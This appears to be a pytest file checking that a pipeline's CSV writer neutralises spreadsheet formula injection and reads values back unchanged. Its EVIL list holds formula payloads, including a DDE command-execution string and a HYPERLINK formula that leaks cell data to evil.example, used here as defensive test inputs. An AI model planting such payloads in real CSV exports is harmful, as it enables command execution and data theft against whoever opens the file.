"""Text of strangers in CSV files: no cell is a formula, and what is read back is what was written."""

import csv
import io
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.labels import decisions
from pipeline.prediction import writers
from pipeline.prediction.answers import Answer
from pipeline.prediction.pictures import Picture
from pipeline.review import findings
from pipeline.sources import Skipped, quarantine
from pipeline.storage import csvs

EVIL = [
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "-",
    "--1",
    "+49 30 1234",
    "-1.5.3",
]
NUMBERS = ["-1.5", "+3", "-1e-05", "-.5", "12", "-0"]
PLAIN = ["cat", "", "a=b", "'quoted'", "o'clock", " =1", "'", "ü", "NA", "nan", "None"]
STARTS = tuple("=+-@\t\r\n＝＋－＠")
# What no file name, class or label can hold: see sources.layout.printable.
TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=12)
WILD = TEXTS | st.builds(lambda start, rest: start + rest, st.sampled_from([*EVIL, "'"]), TEXTS)


def runs(cell: str) -> bool:
    return cell.startswith(STARTS) and not csvs.NUMBER.fullmatch(cell)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", EVIL)
def test_a_formula_gets_an_apostrophe_and_is_read_back_as_it_was(text: str) -> None:
    assert csvs.safe(text) == f"'{text}"
    assert csvs.original(f"'{text}") == text


@pytest.mark.parametrize("value", [*NUMBERS, *PLAIN, -1.5, -3, True, None, float("nan")])
def test_numbers_and_other_text_stay(value: Any) -> None:
    assert csvs.safe(value) is value


@given(text=WILD)
def test_whatever_the_text_it_runs_nowhere_and_comes_back(text: str) -> None:
    assert not runs(csvs.safe(text))
    assert csvs.original(csvs.safe(text)) == text


@given(table=st.lists(st.tuples(WILD, WILD, st.floats(-1e9, 1e9)), max_size=8), name=WILD)
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_a_table_comes_back_as_it_was_written(
    table: list[tuple[str, str, float]], name: str, tmp_path: Path
) -> None:
    columns = [f"{name}=a", f"{name}=b", "number"]
    frame = pd.DataFrame(table, columns=columns).astype({columns[0]: object, columns[1]: object})
    file = tmp_path / "table.csv"
    csvs.write(frame, file)
    with file.open(newline="", encoding="utf-8") as stream:
        written = list(csv.reader(stream))
    assert not any(runs(cell) for row in written for cell in row)
    types = {columns[0]: str, columns[1]: str}
    again = csvs.read(file, dtype=types, keep_default_na=False)
    assert again.columns.tolist() == columns
    assert again[columns[:2]].to_numpy().tolist() == frame[columns[:2]].to_numpy().tolist()
    assert np.allclose(again["number"].to_numpy(float), frame["number"].to_numpy(float))


def test_numbers_of_a_table_are_written_as_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"label": ["-1", "=1"], "score": [-1.5, 2.0], "n": [-1, 2]})
    csvs.write(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == "label,score,n\n-1,-1.5,-1\n'=1,2.0,2\n"


def test_a_table_without_anything_to_hide_is_written_as_before(tmp_path: Path) -> None:
    frame = pd.DataFrame({"label": ["cat", None, 'a "dog"'], "correct": [True, False, True]})
    csvs.write(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == frame.to_csv(index=False)


@pytest.mark.parametrize("text", [*EVIL, "'=1", "cat"])
def test_quarantine_holds_no_formula_and_is_read_back(text: str, tmp_path: Path) -> None:
    entry = Skipped(text, text)  # which holds no query of an address
    with quarantine.opened(tmp_path / "q.csv") as left_out:
        left_out.add(entry)
    with (tmp_path / "q.csv").open(newline="", encoding="utf-8") as file:
        assert not any(runs(cell) for row in csv.reader(file) for cell in row)
    (row,) = csvs.read(tmp_path / "q.csv", dtype=str, keep_default_na=False).to_dict("records")
    assert row == {"name": entry.name, "reason": entry.reason}


@pytest.mark.parametrize("text", [*EVIL, *NUMBERS, "'=1", "cat"])
def test_a_decision_on_a_class_of_any_name_comes_back(text: str, tmp_path: Path) -> None:
    line = ["0" * 64, "relabel", text, text, "2026-01-31T18:30:00+00:00"]
    decisions.append(tmp_path / "decisions", [line], tmp_path / "lock")
    with (tmp_path / "decisions" / decisions.FILE).open(newline="", encoding="utf-8") as file:
        assert not any(runs(cell) for row in csv.reader(file) for cell in row)
    assert decisions.read(tmp_path / "decisions").to_numpy().tolist() == [line]


def test_predict_prints_no_formula() -> None:
    stream = io.StringIO(newline="")
    write = writers.as_csv(stream)
    answer = Answer("=1.jpg", (("@class", 0.75), ("cat", 0.25)), False, False, -1.5, "")
    write(answer, Picture("=1.jpg", None, ""))
    _, row = rows(stream.getvalue())
    assert row == ["'=1.jpg", "'@class", "0.750000", "false", "false", "-1.5", ""]
    assert [csvs.original(cell) for cell in row[:2]] == ["=1.jpg", "@class"]


def test_every_csv_of_the_package_is_written_and_read_by_one_module() -> None:
    """A listing is the user's own table and is read as it is."""
    own = Path(csvs.__file__)
    package = own.parents[1]
    assert package.name == "pipeline"
    users = {
        str(file.relative_to(package))
        for file in package.rglob("*.py")
        if file != own
        and any(word in file.read_text() for word in (".to_csv(", "csv.writer(", "DictWriter("))
    }
    readers = {
        str(file.relative_to(package))
        for file in package.rglob("*.py")
        if file != own and "read_csv(" in file.read_text()
    }
    assert (users, readers) == (set(), set())
    assert findings.csvs is csvs
